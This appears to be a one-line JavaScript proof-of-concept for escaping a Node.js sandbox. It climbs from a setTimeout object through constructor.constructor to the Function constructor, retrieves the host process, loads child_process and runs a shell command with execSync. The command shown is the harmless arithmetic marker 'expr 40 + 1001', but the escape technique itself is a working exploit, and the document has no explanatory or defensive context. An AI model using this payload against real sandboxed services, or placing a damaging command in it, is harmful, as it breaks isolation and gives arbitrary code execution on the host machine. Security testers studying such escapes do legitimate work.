const t=setTimeout(()=>{},1); t.constructor.constructor('return process')().mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
